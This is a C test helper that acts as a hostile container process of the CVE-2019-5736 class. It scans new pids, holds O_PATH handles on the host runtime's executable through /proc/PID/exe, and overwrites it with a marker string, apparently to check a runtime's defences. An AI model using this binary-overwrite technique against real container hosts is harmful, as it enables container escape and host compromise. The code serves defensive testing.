/* exe_attack REPORT DIR: a hostile container process of the CVE-2019-5736
 * class, for tests/security.bats.
 *
 * Until DIR/stop exists it watches the newest pids of its pid namespace
 * (/proc/sys/kernel/ns_last_pid and the next ones) and, for every process it
 * sees, opens /proc/PID/exe for writing (ETXTBSY while the binary runs) and
 * with O_PATH. It keeps every O_PATH handle whose file is not one of the
 * container's own binaries (anything under /bin) and keeps trying to reopen
 * it for writing through /proc/self/fd/N; when that works it overwrites the
 * first bytes. After DIR/stop it retries the handles for a while longer (the
 * runtime has exited by then, so nothing keeps the file busy). When DIR/ping
 * appears it removes it and answers "pong N" after a full round of attempts,
 * so a test knows every process alive at the ping has been tried.
 *
 * REPORT gets one line per event, flushed at once:
 *   tried PID               the first open of /proc/PID/exe was attempted
 *   held PID DEV INO        an O_PATH handle on a foreign executable
 *   wrote DEV INO           that executable was overwritten
 *   pong N                  the Nth ping was answered
 *   observed N / txtbsy N   counters, at the end
 *   done
 * DEV and INO are decimal st_dev and st_ino, as `stat -c '%d %i'` prints. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HELD 64
#define MAX_KNOWN 1024
#define MAX_PID (1 << 22)

static const char marker[] = "TINYRUN-EXE-OVERWRITTEN-BY-CONTAINER";

struct held {
	int fd;
	dev_t dev;
	ino_t ino;
	int wrote;
};

static struct held held[MAX_HELD];
static int n_held;
static struct { dev_t dev; ino_t ino; } known[MAX_KNOWN];
static int n_known;
static unsigned char seen[MAX_PID / 8];
static pid_t tracked[256];
static int n_tracked;
static long observed, txtbsy;
static FILE *rep;

static void report(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vfprintf(rep, fmt, ap);
	va_end(ap);
	fputc('\n', rep);
	fflush(rep);
}

static void add_known(const struct stat *st)
{
	if (n_known < MAX_KNOWN) {
		known[n_known].dev = st->st_dev;
		known[n_known].ino = st->st_ino;
		n_known++;
	}
}

/* Every regular file reachable from DIR's entries (links followed). */
static void add_known_dir(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	char path[4096];
	struct stat st;

	if (!d)
		return;
	while ((e = readdir(d))) {
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		if (stat(path, &st) == 0 && S_ISREG(st.st_mode))
			add_known(&st);
	}
	closedir(d);
}

static int is_known(const struct stat *st)
{
	for (int i = 0; i < n_known; i++)
		if (known[i].dev == st->st_dev && known[i].ino == st->st_ino)
			return 1;
	for (int i = 0; i < n_held; i++)
		if (held[i].dev == st->st_dev && held[i].ino == st->st_ino)
			return 1;
	return 0;
}

static int overwrite(int fd, const struct stat *st)
{
	if (pwrite(fd, marker, sizeof(marker) - 1, 0) != (ssize_t)(sizeof(marker) - 1))
		return -1;
	fsync(fd);
	report("wrote %llu %llu", (unsigned long long)st->st_dev, (unsigned long long)st->st_ino);
	return 0;
}

static void try_write(struct held *h)
{
	char path[64];
	struct stat st;
	int fd;

	if (h->wrote)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", h->fd);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		if (errno == ETXTBSY)
			txtbsy++;
		return;
	}
	if (fstat(fd, &st) == 0 && overwrite(fd, &st) == 0)
		h->wrote = 1;
	close(fd);
}

static void grab(pid_t pid)
{
	char path[64];
	struct stat st;
	int fd, first = 0;

	if (pid <= 1 || pid >= MAX_PID || pid == getpid())
		return;
	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	if (!(seen[pid / 8] & (1 << (pid % 8)))) {
		char dir[64];
		snprintf(dir, sizeof(dir), "/proc/%d", (int)pid);
		if (access(dir, F_OK) < 0)
			return;
		seen[pid / 8] |= 1 << (pid % 8);
		observed++;
		first = 1;
		if (n_tracked < (int)(sizeof(tracked) / sizeof(tracked[0])))
			tracked[n_tracked++] = pid;
	}
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0) {
		if (fstat(fd, &st) == 0 && !is_known(&st))
			overwrite(fd, &st);
		close(fd);
	} else if (errno == ETXTBSY) {
		txtbsy++;
	}
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd >= 0) {
		if (n_held < MAX_HELD && fstat(fd, &st) == 0 && !is_known(&st)) {
			held[n_held] = (struct held){ .fd = fd, .dev = st.st_dev, .ino = st.st_ino };
			n_held++;
			report("held %d %llu %llu", (int)pid, (unsigned long long)st.st_dev,
			       (unsigned long long)st.st_ino);
		} else {
			close(fd);
		}
	}
	if (first)
		report("tried %d", (int)pid);
}

static pid_t last_pid(int fd)
{
	char buf[32];
	ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);

	if (n <= 0)
		return 0;
	buf[n] = 0;
	return (pid_t)atoi(buf);
}

int main(int argc, char **argv)
{
	char stop[4096], ping[4096];
	struct stat st;
	int lp, pongs = 0, pinged = 0;

	if (argc != 3) {
		fprintf(stderr, "usage: exe_attack REPORT DIR\n");
		return 2;
	}
	snprintf(stop, sizeof(stop), "%s/stop", argv[2]);
	snprintf(ping, sizeof(ping), "%s/ping", argv[2]);
	rep = fopen(argv[1], "we");
	if (!rep) {
		perror(argv[1]);
		return 1;
	}
	add_known_dir("/bin");
	if (stat("/proc/self/exe", &st) == 0)
		add_known(&st);
	lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
	if (lp < 0) {
		report("error ns_last_pid: %s", strerror(errno));
		return 1;
	}
	report("ready");
	for (unsigned long it = 0;; it++) {
		pid_t last = last_pid(lp);

		for (pid_t p = last - 8; p <= last + 3; p++)
			grab(p);
		/* every process seen is tried again while it lives: its
		 * credentials or its executable may change */
		for (int i = 0; i < n_tracked; i++) {
			char dir[64];
			snprintf(dir, sizeof(dir), "/proc/%d", (int)tracked[i]);
			if (access(dir, F_OK) == 0)
				grab(tracked[i]);
			else
				tracked[i--] = tracked[--n_tracked];
		}
		for (int i = 0; i < n_held; i++)
			try_write(&held[i]);
		if (pinged)
			report("pong %d", ++pongs);
		pinged = 0;
		if (it % 256 == 0) {
			if (access(stop, F_OK) == 0)
				break;
			pinged = unlink(ping) == 0;
		}
	}
	/* the runtime is gone now: nothing should keep its binary busy */
	for (int round = 0; round < 50; round++) {
		for (int i = 0; i < n_held; i++)
			try_write(&held[i]);
		usleep(20000);
	}
	report("observed %ld", observed);
	report("txtbsy %ld", txtbsy);
	report("done");
	return 0;
}
